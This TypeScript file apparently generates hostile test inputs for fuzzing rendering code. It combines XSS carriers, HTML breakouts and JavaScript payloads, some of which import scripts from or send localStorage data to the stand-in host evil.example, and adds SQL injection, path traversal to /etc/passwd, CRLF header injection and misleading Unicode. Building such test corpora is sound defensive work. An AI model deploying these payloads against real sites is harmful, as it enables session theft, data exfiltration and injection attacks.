/**
 * Texts that try to be more than text: markup that runs, markup that breaks out of an attribute or an element,
 * addresses that are scripts, templates, and characters that mislead the reader. Made by combining what is
 * executed with every way of getting it executed.
 */
export function hostileStrings(): string[] {
  return combined(() => true)
}

/**
 * A tenth of them, for what draws each text: every carrier stands with every breakout and with every code, and every
 * breakout with every code. Only the combinations of three are missing.
 */
export function hostilePairs(): string[] {
  return combined(({code, carrier, breakout}) => code === (carrier + breakout) % CODE.length)
}

/** The fewest, for what draws whole pages: every carrier, breakout and code is among them, not each with each. */
export function hostileSingles(): string[] {
  return combined(
    ({code, carrier, breakout}) =>
      breakout === carrier % BREAKOUTS.length &&
      code === Math.floor(carrier / CODE.length + carrier) % CODE.length,
  )
}

type Places = {code: number; carrier: number; breakout: number}

function combined(isWanted: (places: Places) => boolean): string[] {
  const texts = CODE.flatMap((text, code) =>
    CARRIERS.flatMap((carry, carrier) =>
      BREAKOUTS.flatMap((opening, breakout) =>
        isWanted({code, carrier, breakout}) ? `${opening}${carry(text)}` : [],
      ),
    ),
  )
  return [...new Set([...texts, ...ODDITIES])]
}

const CODE = [
  'alert(1)',
  'alert`1`',
  'top.alert(document.cookie)',
  'window["al"+"ert"](1)',
  'import("//evil.example/x.js")',
  'fetch("//evil.example/"+localStorage.length)',
  'location="//evil.example"',
  'document.body.remove()',
  'opener.location="//evil.example"',
  'parent.postMessage("x","*")',
]

const EVENTS = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'onanimationend',
  'ontoggle',
]

const CARRIERS: ((code: string) => string)[] = [
  (code) => `<script>${code}</script>`,
  (code) => `<SCRIPT/x>${code}</SCRIPT>`,
  (code) => `<scr<script>ipt>${code}</scr</script>ipt>`,
  (code) => `<svg><script>${code}</script></svg>`,
  (code) => `<iframe srcdoc="<script>${code}</script>"></iframe>`,
  (code) => `<iframe src="javascript:${code}"></iframe>`,
  (code) => `<object data="javascript:${code}"></object>`,
  (code) => `<embed src="javascript:${code}">`,
  (code) => `<a href="javascript:${code}">x</a>`,
  (code) => `<a href="java\nscript:${code}">x</a>`,
  (code) => `<a href="&#106;avascript:${code}">x</a>`,
  (code) => `<form action="javascript:${code}"><button>x</button></form>`,
  (code) => `<meta http-equiv="refresh" content="0;url=javascript:${code}">`,
  (code) => `<base href="javascript:${code}//">`,
  (code) => `<link rel="stylesheet" href="javascript:${code}">`,
  (code) => `<style>@import "javascript:${code}"</style>`,
  (code) => `<div style="background:url(javascript:${code})">x</div>`,
  (code) => `<math><a xlink:href="javascript:${code}">x</a></math>`,
  (code) => `javascript:${code}`,
  (code) => ` \u0001javascript:${code}`,
  (code) => `data:text/html,<script>${code}</script>`,
  (code) => `vbscript:${code}`,
  (code) => `{{constructor.constructor('${code}')()}}`,
  (code) => '${' + code + '}',
  (code) => `<!--${code}-->`,
  (code) => `<![CDATA[<script>${code}</script>]]>`,
  ...EVENTS.flatMap((event) => [
    (code: string) => `<img src=x ${event}=${code}>`,
    (code: string) => `<svg ${event}='${code}'>`,
    (code: string) => `<details open ${event}="${code}">`,
    (code: string) => `<input autofocus ${event}="${code}">`,
    (code: string) => `x" ${event}="${code}" y="`,
  ]),
]

const BREAKOUTS = [
  '',
  '">',
  "'>",
  '</title>',
  '</textarea>',
  '</script>',
  '--></style>',
  '\u0000',
  '\\u003c',
  '\u202e',
]

const ODDITIES = [
  '__proto__',
  'constructor',
  'undefined',
  'null',
  'NaN',
  '-1e999',
  '0x10',
  "'; DROP TABLE games; --",
  '"] | *[_type == "secret"]',
  '../../etc/passwd',
  '%00%0d%0aSet-Cookie: x=1',
  '\ud800',
  '\udfff\ud800',
  '\ufeff',
  '\u200b\u200d\u2060',
  'مرحبا بالعالم',
  'שלום \u202d\u202e עולם',
  'Z̸̡͎̦̱͚̪͔̯̥̐̎a̷l̴g̵o̶',
  '👩‍👩‍👧‍👦🏳️‍🌈🇩🇪👍🏿',
  '田中さんにあげて下さい',
  'ﷺ'.repeat(50),
  'x'.repeat(20_000),
  '\n'.repeat(500),
  ' '.repeat(500),
]
